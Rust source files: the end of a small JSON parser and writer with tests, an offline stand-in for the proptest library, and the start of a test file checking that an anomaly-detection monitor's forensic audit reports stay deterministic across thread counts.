pub fn from_str<T: Deserialize>(s: &str) -> Result<T, Error> {
    let mut parser = Parser {
        input: s.as_bytes(),
        pos: 0,
    };
    let content = parser.parse_value()?;
    parser.skip_ws();
    if parser.pos != parser.input.len() {
        return Err(Error::new(format!(
            "trailing characters at byte {}",
            parser.pos
        )));
    }
    T::deserialize(&content).map_err(Error::from)
}

// ---------------------------------------------------------------------------
// Writer
// ---------------------------------------------------------------------------

fn write_content(out: &mut String, v: &Content, indent: Option<usize>, depth: usize) {
    match v {
        Content::Null => out.push_str("null"),
        Content::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Content::I64(n) => out.push_str(&n.to_string()),
        Content::U64(n) => out.push_str(&n.to_string()),
        Content::F64(f) => {
            if f.is_finite() {
                let s = f.to_string();
                out.push_str(&s);
                // Keep a float marker so the value parses back as F64.
                if !s.contains(['.', 'e', 'E']) {
                    out.push_str(".0");
                }
            } else {
                // serde_json renders NaN/inf as null.
                out.push_str("null");
            }
        }
        Content::Str(s) => write_json_string(out, s),
        Content::Seq(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                write_content(out, item, indent, depth + 1);
            }
            if !items.is_empty() {
                newline_indent(out, indent, depth);
            }
            out.push(']');
        }
        Content::Map(entries) => {
            out.push('{');
            for (i, (k, val)) in entries.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                newline_indent(out, indent, depth + 1);
                match k {
                    Content::Str(s) => write_json_string(out, s),
                    other => {
                        // Non-string keys are stringified, as serde_json does
                        // for integer keys.
                        let mut key = String::new();
                        write_content(&mut key, other, None, 0);
                        write_json_string(out, &key);
                    }
                }
                out.push(':');
                if indent.is_some() {
                    out.push(' ');
                }
                write_content(out, val, indent, depth + 1);
            }
            if !entries.is_empty() {
                newline_indent(out, indent, depth);
            }
            out.push('}');
        }
    }
}

fn newline_indent(out: &mut String, indent: Option<usize>, depth: usize) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..width * depth {
            out.push(' ');
        }
    }
}

fn write_json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// ---------------------------------------------------------------------------
// Parser
// ---------------------------------------------------------------------------

struct Parser<'a> {
    input: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<u8> {
        self.input.get(self.pos).copied()
    }

    fn bump(&mut self) -> Option<u8> {
        let b = self.peek()?;
        self.pos += 1;
        Some(b)
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), Error> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::new(format!(
                "expected `{}` at byte {}",
                b as char, self.pos
            )))
        }
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if self.input[self.pos..].starts_with(kw.as_bytes()) {
            self.pos += kw.len();
            true
        } else {
            false
        }
    }

    fn parse_value(&mut self) -> Result<Content, Error> {
        self.skip_ws();
        match self.peek() {
            Some(b'n') if self.eat_keyword("null") => Ok(Content::Null),
            Some(b't') if self.eat_keyword("true") => Ok(Content::Bool(true)),
            Some(b'f') if self.eat_keyword("false") => Ok(Content::Bool(false)),
            Some(b'"') => self.parse_string().map(Content::Str),
            Some(b'[') => {
                self.pos += 1;
                let mut items = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b']') {
                    self.pos += 1;
                    return Ok(Content::Seq(items));
                }
                loop {
                    items.push(self.parse_value()?);
                    self.skip_ws();
                    match self.bump() {
                        Some(b',') => continue,
                        Some(b']') => return Ok(Content::Seq(items)),
                        _ => return Err(Error::new("expected `,` or `]` in array")),
                    }
                }
            }
            Some(b'{') => {
                self.pos += 1;
                let mut entries = Vec::new();
                self.skip_ws();
                if self.peek() == Some(b'}') {
                    self.pos += 1;
                    return Ok(Content::Map(entries));
                }
                loop {
                    self.skip_ws();
                    let key = self.parse_string()?;
                    self.skip_ws();
                    self.expect(b':')?;
                    let value = self.parse_value()?;
                    entries.push((Content::Str(key), value));
                    self.skip_ws();
                    match self.bump() {
                        Some(b',') => continue,
                        Some(b'}') => return Ok(Content::Map(entries)),
                        _ => return Err(Error::new("expected `,` or `}` in object")),
                    }
                }
            }
            Some(c) if c == b'-' || c.is_ascii_digit() => self.parse_number(),
            Some(c) => Err(Error::new(format!(
                "unexpected character `{}` at byte {}",
                c as char, self.pos
            ))),
            None => Err(Error::new("unexpected end of input")),
        }
    }

    fn parse_string(&mut self) -> Result<String, Error> {
        self.expect(b'"')?;
        let mut s = String::new();
        loop {
            match self.bump() {
                Some(b'"') => return Ok(s),
                Some(b'\\') => match self.bump() {
                    Some(b'"') => s.push('"'),
                    Some(b'\\') => s.push('\\'),
                    Some(b'/') => s.push('/'),
                    Some(b'n') => s.push('\n'),
                    Some(b'r') => s.push('\r'),
                    Some(b't') => s.push('\t'),
                    Some(b'b') => s.push('\u{0008}'),
                    Some(b'f') => s.push('\u{000C}'),
                    Some(b'u') => {
                        let code = self.parse_hex4()?;
                        if (0xD800..0xDC00).contains(&code) {
                            // High surrogate: require the paired low half.
                            if self.bump() != Some(b'\\') || self.bump() != Some(b'u') {
                                return Err(Error::new("unpaired surrogate"));
                            }
                            let low = self.parse_hex4()?;
                            if !(0xDC00..0xE000).contains(&low) {
                                return Err(Error::new("invalid low surrogate"));
                            }
                            let c = 0x10000 + ((code - 0xD800) << 10) + (low - 0xDC00);
                            s.push(
                                char::from_u32(c)
                                    .ok_or_else(|| Error::new("invalid surrogate pair"))?,
                            );
                        } else {
                            s.push(
                                char::from_u32(code)
                                    .ok_or_else(|| Error::new("invalid \\u escape"))?,
                            );
                        }
                    }
                    _ => return Err(Error::new("invalid escape sequence")),
                },
                Some(c) if c < 0x80 => s.push(c as char),
                Some(first) => {
                    // Multi-byte UTF-8: re-decode from the raw input.
                    let start = self.pos - 1;
                    let width = match first {
                        0xC0..=0xDF => 2,
                        0xE0..=0xEF => 3,
                        0xF0..=0xF7 => 4,
                        _ => return Err(Error::new("invalid UTF-8 in string")),
                    };
                    let end = start + width;
                    let chunk = self
                        .input
                        .get(start..end)
                        .ok_or_else(|| Error::new("truncated UTF-8 in string"))?;
                    let text = std::str::from_utf8(chunk)
                        .map_err(|_| Error::new("invalid UTF-8 in string"))?;
                    s.push_str(text);
                    self.pos = end;
                }
                None => return Err(Error::new("unterminated string")),
            }
        }
    }

    fn parse_hex4(&mut self) -> Result<u32, Error> {
        let mut code = 0u32;
        for _ in 0..4 {
            let d = self
                .bump()
                .and_then(|c| (c as char).to_digit(16))
                .ok_or_else(|| Error::new("invalid \\u escape"))?;
            code = code * 16 + d;
        }
        Ok(code)
    }

    fn parse_number(&mut self) -> Result<Content, Error> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        let mut is_float = false;
        while let Some(c) = self.peek() {
            match c {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    is_float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text = std::str::from_utf8(&self.input[start..self.pos])
            .map_err(|_| Error::new("invalid number"))?;
        if !is_float {
            if let Ok(n) = text.parse::<i64>() {
                return Ok(Content::I64(n));
            }
            if let Ok(n) = text.parse::<u64>() {
                return Ok(Content::U64(n));
            }
        }
        text.parse::<f64>()
            .map(Content::F64)
            .map_err(|_| Error::new(format!("invalid number `{text}`")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    #[test]
    fn scalars_round_trip() {
        assert_eq!(to_string(&42u64).unwrap(), "42");
        assert_eq!(from_str::<u64>("42").unwrap(), 42);
        assert_eq!(to_string(&-1.5f64).unwrap(), "-1.5");
        assert_eq!(from_str::<f64>("-1.5").unwrap(), -1.5);
        assert_eq!(to_string(&true).unwrap(), "true");
        assert_eq!(from_str::<Option<u8>>("null").unwrap(), None);
    }

    #[test]
    fn floats_keep_marker() {
        // 2.0 must not render as bare `2` (it would parse back as integer
        // content; f64 deserialization tolerates it, but keep JSON faithful).
        assert_eq!(to_string(&2.0f64).unwrap(), "2.0");
        assert_eq!(from_str::<f64>("2.0").unwrap(), 2.0);
    }

    #[test]
    fn nonfinite_renders_null() {
        assert_eq!(to_string(&f64::NEG_INFINITY).unwrap(), "null");
        assert!(from_str::<f64>("null").unwrap().is_nan());
    }

    #[test]
    fn strings_escape() {
        let s = "a\"b\\c\nd\u{1F600}é".to_string();
        let json = to_string(&s).unwrap();
        assert_eq!(from_str::<String>(&json).unwrap(), s);
        assert_eq!(from_str::<String>(r#""😀""#).unwrap(), "😀");
    }

    #[test]
    fn nested_collections_round_trip() {
        let mut m: BTreeMap<String, Vec<f64>> = BTreeMap::new();
        m.insert("pi".into(), vec![0.25, 0.75]);
        m.insert("rows".into(), vec![]);
        let json = to_string(&m).unwrap();
        assert_eq!(from_str::<BTreeMap<String, Vec<f64>>>(&json).unwrap(), m);
    }

    #[test]
    fn pretty_output_parses_back() {
        let v = vec![vec![1u32, 2], vec![3]];
        let json = to_string_pretty(&v).unwrap();
        assert!(json.contains('\n'));
        assert_eq!(from_str::<Vec<Vec<u32>>>(&json).unwrap(), v);
    }

    #[test]
    fn rejects_garbage() {
        assert!(from_str::<u64>("4x").is_err());
        assert!(from_str::<Vec<u64>>("[1,]").is_err());
        assert!(from_str::<String>("\"abc").is_err());
    }
}
