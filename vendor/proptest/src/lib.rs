//! Offline stand-in for `proptest`.
//!
//! The build environment has no access to crates.io, so this workspace
//! vendors a small deterministic property-test runner with the subset of
//! proptest's API that the test suites use: the [`Strategy`] trait with
//! `prop_map`, range and [`any`] strategies, tuple composition, the
//! [`proptest!`] macro (with `#![proptest_config(...)]`), and the
//! `prop_assert!` / `prop_assert_eq!` / `prop_assume!` macros.
//!
//! Differences from upstream worth knowing:
//!
//! * cases are generated from a fixed seed, so runs are fully
//!   deterministic (CI-friendly) rather than driven by OS entropy;
//! * there is no shrinking — the failing input is printed as generated;
//! * `prop_assume!` skips the case without regenerating a replacement.

#![warn(missing_docs)]

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

/// Runner configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of cases to run per property.
    pub cases: u32,
}

impl ProptestConfig {
    /// Configuration running `cases` cases.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        ProptestConfig { cases: 256 }
    }
}

/// The deterministic RNG driving generation.
pub type TestRng = StdRng;

/// Resolves the per-property case count: the `PROPTEST_CASES` environment
/// variable, when set to a positive integer, overrides the configured value.
/// CI uses this to run elevated counts (e.g. 512) without touching the
/// in-tree `proptest_config` defaults.
pub fn resolve_cases(configured: u32) -> u32 {
    match std::env::var("PROPTEST_CASES") {
        Ok(v) => match v.trim().parse::<u32>() {
            Ok(n) if n > 0 => n,
            _ => configured,
        },
        Err(_) => configured,
    }
}

/// Writes a failing case to `<dir>/<property>.txt`, where `<dir>` is
/// `$PROPTEST_REGRESSION_DIR` or `proptest-regressions/` under the test's
/// working directory (the package root under cargo). The runner is fully
/// deterministic — rerunning the property replays the same cases — so the
/// file records the generated inputs for diagnosis rather than a replay
/// seed; CI uploads it as an artifact on failure.
#[doc(hidden)]
pub fn record_regression(property: &str, case: u32, cases: u32, msg: &str, inputs: &str) {
    let dir = std::env::var("PROPTEST_REGRESSION_DIR")
        .unwrap_or_else(|_| "proptest-regressions".to_string());
    if std::fs::create_dir_all(&dir).is_err() {
        return;
    }
    let path = std::path::Path::new(&dir).join(format!("{property}.txt"));
    let body = format!(
        "# proptest regression record (offline stand-in: deterministic runner, no seeds)\n\
         property: {property}\n\
         failed_at_case: {case}/{cases}\n\
         message: {msg}\n\
         inputs: {inputs}\n"
    );
    let _ = std::fs::write(path, body);
}

/// Creates the per-property RNG. Seeded from the property name so distinct
/// properties explore different streams, deterministically.
#[doc(hidden)]
pub fn test_rng(property_name: &str) -> TestRng {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in property_name.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    StdRng::seed_from_u64(h)
}

/// A value generator.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }
}

/// Strategy returned by [`Strategy::prop_map`].
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;

    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

macro_rules! impl_range_strategy {
    ($($ty:ty),*) => {$(
        impl Strategy for Range<$ty> {
            type Value = $ty;
            fn generate(&self, rng: &mut TestRng) -> $ty {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$ty> {
            type Value = $ty;
            fn generate(&self, rng: &mut TestRng) -> $ty {
                rng.gen_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Strategy for Range<f64> {
    type Value = f64;
    fn generate(&self, rng: &mut TestRng) -> f64 {
        rng.gen_range(self.clone())
    }
}

/// String-regex strategy: a `&str` pattern generates matching `String`s,
/// mirroring proptest's `str` strategy for the subset of regex syntax the
/// suites use — literal characters, character classes with ranges
/// (`[a-zA-Z_]`), and `{n}` / `{lo,hi}` repetition.
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        let mut out = String::new();
        let chars: Vec<char> = self.chars().collect();
        let mut i = 0;
        while i < chars.len() {
            // One atom: a character class or a (possibly escaped) literal.
            let class: Vec<char> = if chars[i] == '[' {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == ']')
                    .map(|p| i + p)
                    .unwrap_or_else(|| panic!("unterminated character class in {self:?}"));
                let mut set = Vec::new();
                let mut j = i + 1;
                while j < close {
                    if j + 2 < close && chars[j + 1] == '-' {
                        let (lo, hi) = (chars[j] as u32, chars[j + 2] as u32);
                        assert!(lo <= hi, "bad range in character class in {self:?}");
                        set.extend((lo..=hi).filter_map(char::from_u32));
                        j += 3;
                    } else {
                        set.push(chars[j]);
                        j += 1;
                    }
                }
                i = close + 1;
                set
            } else {
                let c = if chars[i] == '\\' && i + 1 < chars.len() {
                    i += 1;
                    chars[i]
                } else {
                    chars[i]
                };
                i += 1;
                vec![c]
            };
            assert!(!class.is_empty(), "empty character class in {self:?}");
            // Optional {n} / {lo,hi} repetition.
            let (lo, hi) = if i < chars.len() && chars[i] == '{' {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == '}')
                    .map(|p| i + p)
                    .unwrap_or_else(|| panic!("unterminated repetition in {self:?}"));
                let body: String = chars[i + 1..close].iter().collect();
                i = close + 1;
                match body.split_once(',') {
                    Some((lo, hi)) => (
                        lo.trim().parse::<usize>().expect("repetition lower bound"),
                        hi.trim().parse::<usize>().expect("repetition upper bound"),
                    ),
                    None => {
                        let n = body.trim().parse::<usize>().expect("repetition count");
                        (n, n)
                    }
                }
            } else {
                (1, 1)
            };
            let count = rng.gen_range(lo..=hi);
            for _ in 0..count {
                out.push(class[rng.gen_range(0..class.len())]);
            }
        }
        out
    }
}

/// Whole-domain generation for [`any`].
pub trait Arbitrary: Sized {
    /// Generates an arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_uint {
    ($($ty:ty),*) => {$(
        impl Arbitrary for $ty {
            fn arbitrary(rng: &mut TestRng) -> $ty {
                rng.gen_range(<$ty>::MIN..=<$ty>::MAX)
            }
        }
    )*};
}

impl_arbitrary_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        rng.gen_bool(0.5)
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> f64 {
        // Finite, sign-symmetric spread over several magnitudes; upstream's
        // special values (NaN/inf) are not needed by these suites.
        let mantissa = rng.gen_range(-1.0..1.0);
        let exponent = rng.gen_range(-64..64);
        mantissa * (2.0f64).powi(exponent)
    }
}

/// Strategy for "any value of `T`" ([`any`]).
pub struct Any<T>(PhantomData<T>);

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// `any::<T>()` — generates whole-domain values of `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(PhantomData)
}

/// `Just`: always generates a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

macro_rules! impl_tuple_strategy {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )*};
}

impl_tuple_strategy! {
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
    (A: 0, B: 1, C: 2, D: 3, E: 4)
    (A: 0, B: 1, C: 2, D: 3, E: 4, F: 5)
}

/// Collection strategies.
pub mod collection {
    use super::{Strategy, TestRng};
    use rand::Rng;
    use std::ops::Range;

    /// Strategy for `Vec<T>` with a length drawn from `len`.
    pub struct VecStrategy<S> {
        element: S,
        len: Range<usize>,
    }

    /// `prop::collection::vec(element, len_range)`.
    pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, len }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let n = rng.gen_range(self.len.clone());
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

/// Mirrors proptest's `prop` facade module.
pub mod prop {
    pub use crate::collection;
}

/// The glob-import surface, mirroring `proptest::prelude::*`.
pub mod prelude {
    pub use crate::{
        any, prop, prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, proptest, Any,
        Arbitrary, Just, ProptestConfig, Strategy,
    };
}

/// Defines property tests.
///
/// Supported grammar (a subset of upstream's):
///
/// ```ignore
/// proptest! {
///     #![proptest_config(ProptestConfig::with_cases(64))]
///     #[test]
///     fn my_property(x in 0usize..10, seed in any::<u64>()) {
///         prop_assert!(x < 10);
///     }
/// }
/// ```
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($config:expr)]
     $($(#[$meta:meta])*
       fn $name:ident($($arg:ident in $strategy:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __config: $crate::ProptestConfig = $config;
                let __cases = $crate::resolve_cases(__config.cases);
                let mut __rng = $crate::test_rng(stringify!($name));
                for __case in 0..__cases {
                    $(let $arg = $crate::Strategy::generate(&($strategy), &mut __rng);)+
                    // Rendered before the body runs: the body takes the
                    // inputs by value and may consume them.
                    let mut __input_desc = ::std::string::String::new();
                    $(
                        __input_desc.push_str(concat!(stringify!($arg), " = "));
                        __input_desc.push_str(&::std::format!("{:?}", &$arg));
                        __input_desc.push_str(", ");
                    )+
                    let __outcome: ::std::result::Result<(), ::std::string::String> =
                        (|| { $body ::std::result::Result::Ok(()) })();
                    if let ::std::result::Result::Err(__msg) = __outcome {
                        $crate::record_regression(
                            stringify!($name), __case + 1, __cases, &__msg, &__input_desc,
                        );
                        ::std::panic!(
                            "property `{}` failed at case {}/{}: {}\n  inputs: {}",
                            stringify!($name), __case + 1, __cases, __msg,
                            __input_desc
                        );
                    }
                }
            }
        )*
    };
    ($($(#[$meta:meta])*
       fn $name:ident($($arg:ident in $strategy:expr),+ $(,)?) $body:block)*) => {
        $crate::proptest! {
            #![proptest_config($crate::ProptestConfig::default())]
            $($(#[$meta])* fn $name($($arg in $strategy),+) $body)*
        }
    };
}

/// Asserts a condition inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return ::std::result::Result::Err(::std::format!($($fmt)*));
        }
    };
}

/// Asserts equality inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l == *__r,
            "assertion failed: `{:?}` != `{:?}`", __l, __r
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(*__l == *__r, $($fmt)*);
    }};
}

/// Asserts inequality inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(*__l != *__r, "assertion failed: `{:?}` == `{:?}`", __l, __r);
    }};
}

/// Skips the current case when the assumption does not hold.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Ok(());
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return ::std::result::Result::Ok(());
        }
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        #[test]
        fn ranges_respect_bounds(x in 3usize..9, y in 1u64..=4) {
            prop_assert!((3..9).contains(&x));
            prop_assert!((1..=4).contains(&y));
        }

        #[test]
        fn tuples_and_map_compose(v in (0u32..5, 0.0f64..1.0).prop_map(|(a, b)| a as f64 + b)) {
            prop_assert!((0.0..6.0).contains(&v), "v = {v}");
        }

        #[test]
        fn assume_skips(n in 0u32..10) {
            prop_assume!(n % 2 == 0);
            prop_assert_eq!(n % 2, 0);
        }

        #[test]
        fn vec_strategy_sizes(v in prop::collection::vec(0u8..4, 2..6)) {
            prop_assert!((2..6).contains(&v.len()));
            prop_assert!(v.iter().all(|&x| x < 4));
        }
    }

    #[test]
    fn deterministic_across_runs() {
        let mut a = crate::test_rng("p");
        let mut b = crate::test_rng("p");
        let s = 0usize..100;
        let va: Vec<usize> = (0..10).map(|_| Strategy::generate(&s, &mut a)).collect();
        let vb: Vec<usize> = (0..10).map(|_| Strategy::generate(&s, &mut b)).collect();
        assert_eq!(va, vb);
    }

    #[test]
    #[should_panic(expected = "property `always_fails` failed")]
    fn failures_panic_with_context() {
        // Keep the regression record out of the source tree.
        std::env::set_var(
            "PROPTEST_REGRESSION_DIR",
            std::env::temp_dir().join("adprom-proptest-regressions"),
        );
        proptest! {
            #![proptest_config(ProptestConfig::with_cases(1))]
            fn always_fails(x in 0u8..1) {
                prop_assert!(x > 100);
            }
        }
        always_fails();
    }

    #[test]
    fn resolve_cases_defaults_to_configured() {
        // PROPTEST_CASES is not set in the normal test environment.
        if std::env::var("PROPTEST_CASES").is_err() {
            assert_eq!(crate::resolve_cases(64), 64);
        }
    }

    #[test]
    fn regression_record_is_written() {
        let dir = std::env::temp_dir().join("adprom-proptest-regressions");
        std::env::set_var("PROPTEST_REGRESSION_DIR", &dir);
        crate::record_regression("some_property", 3, 64, "boom", "x = 7, ");
        let body = std::fs::read_to_string(dir.join("some_property.txt")).unwrap();
        assert!(body.contains("failed_at_case: 3/64"));
        assert!(body.contains("x = 7"));
    }
}
