//! The forensics determinism contract, end to end: every alarm audit
//! record from a forensics-armed [`MonitorRuntime`] carries a
//! [`ForensicReport`](adprom::obs::ForensicReport) whose serialized form
//! is bit-identical at any worker thread count, and benign sessions never
//! promote their flight recorder into a report (no forensics counter
//! tick, no audit attachment).

use adprom::core::{
    Alphabet, ForensicsConfig, MonitorRuntime, Profile, ProfileRegistry, RuntimeConfig, ScoringMode,
};
use adprom::hmm::Hmm;
use adprom::lang::{CallSiteId, LibCall};
use adprom::obs::{AuditLog, MemoryAuditSink, Registry};
use adprom::trace::{interleave, CallEvent};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::sync::Arc;

fn event(name: &str, caller: &str) -> CallEvent {
    CallEvent {
        name: name.into(),
        call: LibCall::Printf,
        caller: caller.into(),
        site: CallSiteId(0),
        detail: None,
    }
}

/// The cyclic a→b→c toy profile, parameterized by app name and threshold
/// so each "application" is distinguishable.
fn cyclic_profile(app: &str, threshold: f64) -> Profile {
    let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
    let m = alphabet.len();
    let mut a = vec![vec![0.001; m]; m];
    a[0][1] = 1.0;
    a[1][2] = 1.0;
    a[2][0] = 1.0;
    a[3][3] = 1.0;
    let mut b = vec![vec![0.001; m]; m];
    for (i, row) in b.iter_mut().enumerate() {
        row[i] = 1.0;
    }
    let pi = vec![1.0; m];
    let mut hmm = Hmm::from_rows(a, b, pi);
    hmm.smooth(1e-4);
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for name in ["a", "b", "c_Q7"] {
        call_callers
            .entry(name.to_string())
            .or_default()
            .insert("main".to_string());
    }
    Profile {
        app_name: app.into(),
        alphabet,
        hmm,
        window: 3,
        threshold,
        call_callers,
        labeled_outputs: vec!["c_Q7".to_string()],
    }
}

/// One random session trace: 1–11 calls drawn from the alphabet plus an
/// out-of-vocabulary name, some issued by an untrained caller.
fn arb_trace() -> impl Strategy<Value = Vec<CallEvent>> {
    const NAMES: [&str; 4] = ["a", "b", "c_Q7", "evil_exfil"];
    prop::collection::vec((0usize..NAMES.len(), any::<bool>()), 1..12).prop_map(|calls| {
        calls
            .into_iter()
            .map(|(pick, attacker)| {
                event(
                    NAMES[pick],
                    if attacker {
                        "attacker_function"
                    } else {
                        "main"
                    },
                )
            })
            .collect()
    })
}

/// Random multi-app session sets: 1–3 sessions each for two apps.
fn arb_sessions() -> impl Strategy<Value = Vec<(String, String, Vec<CallEvent>)>> {
    (
        prop::collection::vec(arb_trace(), 1..4),
        prop::collection::vec(arb_trace(), 1..4),
    )
        .prop_map(|(bank, shop)| {
            let mut sessions = Vec::new();
            for (i, trace) in bank.into_iter().enumerate() {
                sessions.push(("bank".to_string(), format!("b-{i}"), trace));
            }
            for (i, trace) in shop.into_iter().enumerate() {
                sessions.push(("shop".to_string(), format!("s-{i}"), trace));
            }
            sessions
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// For every random interleaving, scoring mode, and thread count
    /// ∈ {1, 4, 8}: the audit records — forensic reports included, down to
    /// every float bit via the serialized JSONL form — are identical, one
    /// per alarm, each with non-empty top-k attribution and the alerting
    /// window's exact delta in the flight-recorder tail.
    #[test]
    fn forensic_reports_are_bit_identical_across_thread_counts(
        sessions in arb_sessions(),
        seed in any::<u64>(),
        incremental in any::<bool>(),
    ) {
        let stream = interleave(&sessions, seed);
        let mode = if incremental { ScoringMode::Incremental } else { ScoringMode::ExactWindows };

        let mut baseline: Option<Vec<String>> = None;
        for threads in [1usize, 4, 8] {
            let registry = ProfileRegistry::new();
            registry.register("bank", cyclic_profile("bank", -5.0)).unwrap();
            registry.register("shop", cyclic_profile("shop", -1.0)).unwrap();
            let sink = Arc::new(MemoryAuditSink::new());
            let mut runtime = MonitorRuntime::new(Arc::new(registry))
                .with_threads(threads)
                .with_config(RuntimeConfig {
                    mode,
                    queue_capacity: 3, // force many mid-stream flushes
                    ..RuntimeConfig::default()
                })
                .with_forensics(ForensicsConfig::default())
                .with_audit(Arc::new(AuditLog::new(sink.clone())));
            runtime.ingest_stream(&stream);
            let reports = runtime.finish();

            let alarm_total: usize = reports.iter().map(|r| r.alarms().count()).sum();
            let records = sink.records();
            prop_assert_eq!(
                records.len(), alarm_total,
                "one audit record per alarm (threads {})", threads
            );
            for record in &records {
                prop_assert!(record.forensics.is_some(), "alarm record carries forensics");
                let report = record.forensics.as_ref().unwrap();
                prop_assert!(!report.top_deviant.is_empty(), "non-empty top-k");
                prop_assert_eq!(
                    report.alert_delta(),
                    Some(record.log_likelihood - record.threshold),
                    "flight recorder captured the alerting window"
                );
            }
            let rendered: Vec<String> = records.iter().map(|r| r.to_jsonl()).collect();
            match &baseline {
                None => baseline = Some(rendered),
                Some(expected) => prop_assert_eq!(
                    &rendered, expected,
                    "records diverged at threads {} ({:?})", threads, mode
                ),
            }
        }
    }
}

/// Benign sessions never promote the flight recorder: the ring buffer
/// fills, but no report is built, nothing lands in the audit log, and the
/// `monitor.forensics.reports` counter stays at zero.
#[test]
fn benign_sessions_produce_no_forensics() {
    let sessions: Vec<(String, String, Vec<CallEvent>)> = (0..4)
        .map(|i| {
            let cycle = vec![
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
                event("a", "main"),
                event("b", "main"),
                event("c_Q7", "main"),
            ];
